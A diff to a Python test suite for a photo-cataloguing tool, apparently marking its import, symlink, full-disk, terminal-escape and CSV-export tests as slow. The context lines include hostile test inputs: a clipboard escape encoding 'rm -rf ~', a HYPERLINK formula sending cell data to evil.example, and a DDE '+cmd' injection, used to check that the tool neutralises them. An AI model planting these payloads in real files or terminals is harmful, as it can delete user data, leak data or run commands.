@@ -69,6 +69,7 @@ def foreign_names(tmp_path: Path) -> list[bytes]:
     return [write_named(folder, name, seed) for seed, name in enumerate(names)]
 
 
+@pytest.mark.slow
 def test_names_that_are_not_utf8_are_imported_and_kept_exactly(
     settings: Settings, tmp_path: Path, foreign_names: list[bytes]
 ) -> None:
@@ -95,6 +96,7 @@ def test_names_that_are_not_utf8_are_imported_and_kept_exactly(
         f"0 imported, {len(foreign_names)} unchanged".encode())
 
 
+@pytest.mark.slow
 def test_check_repair_brings_back_an_original_from_its_exact_path(
     settings: Settings, tmp_path: Path, foreign_names: list[bytes]
 ) -> None:
@@ -107,6 +109,7 @@ def test_check_repair_brings_back_an_original_from_its_exact_path(
     assert b"agree" in photodesk(settings, "check").stdout
 
 
+@pytest.mark.slow
 def test_the_web_shows_such_names_with_replacement_characters(
     settings: Settings, tmp_path: Path, foreign_names: list[bytes]
 ) -> None:
@@ -160,6 +163,7 @@ def test_the_store_refuses_such_a_record_with_our_error_and_keeps_nothing(settin
 # -- links, pipes and the data directory ------------------------------------------------------
 
 
+@pytest.mark.slow
 def test_links_out_of_the_imported_folder_are_not_followed_unless_asked(settings: Settings, tmp_path: Path) -> None:
     inbox, elsewhere = tmp_path / "inbox", tmp_path / "elsewhere"
     write_photo(inbox / "own.jpg", seed=1)
@@ -187,6 +191,7 @@ def test_links_out_of_the_imported_folder_are_not_followed_unless_asked(settings
     assert b"SECRET" not in followed.stdout + followed.stderr and b"8f 01" not in followed.stdout + followed.stderr
 
 
+@pytest.mark.slow
 def test_the_data_directory_is_never_imported_into_itself(settings: Settings, tmp_path: Path) -> None:
     write_photos(tmp_path, 2)
     assert photodesk(settings, "import", str(tmp_path)).returncode == 0  # data_dir is tmp_path/photodesk-data
@@ -254,6 +259,7 @@ photodesk check --data "$DATA" > "$OUT/check-after.txt" 2>&1
 
 
 @pytest.mark.parametrize("what_fills", ["media", "catalog"])
+@pytest.mark.slow
 def test_a_full_disk_stops_the_import_with_a_summary_and_a_consistent_catalog(tmp_path: Path, what_fills: str) -> None:
     early = write_photos(tmp_path / "in" / "early", 8, size=(1200, 900))
     later = write_photos(tmp_path / "in" / "later", 24, size=(1200, 900), start=8)
@@ -299,6 +305,7 @@ OSC_CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4K\x07"
 C1_CSI = "\x9b31m"
 
 
+@pytest.mark.slow
 def test_terminal_escapes_from_names_and_captions_never_reach_the_terminal(settings: Settings, tmp_path: Path) -> None:
     inbox = tmp_path / "in"
     meta = EmbeddedMetadata(caption=f"Storm {C1_CSI}hits{OSC_TITLE} the coast", credit=f"AP{C1_CSI}",
@@ -323,6 +330,7 @@ def test_terminal_escapes_from_names_and_captions_never_reach_the_terminal(setti
     assert not CONTROL_BYTES & set(listed.stdout) and "\x9b" not in listed.stdout.decode("utf-8")
 
 
+@pytest.mark.slow
 def test_csv_export_cells_never_start_a_formula(settings: Settings, tmp_path: Path) -> None:
     meta = EmbeddedMetadata(
         caption="=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", headline="+cmd|' /C calc'!A0",
@@ -343,6 +351,7 @@ def test_csv_export_cells_never_start_a_formula(settings: Settings, tmp_path: Pa
     assert formulas == []
 
 
+@pytest.mark.slow
 def test_terminal_escapes_in_a_story_never_reach_the_terminal(settings: Settings, tmp_path: Path) -> None:
     page = tmp_path / "story.html"
     page.write_text(
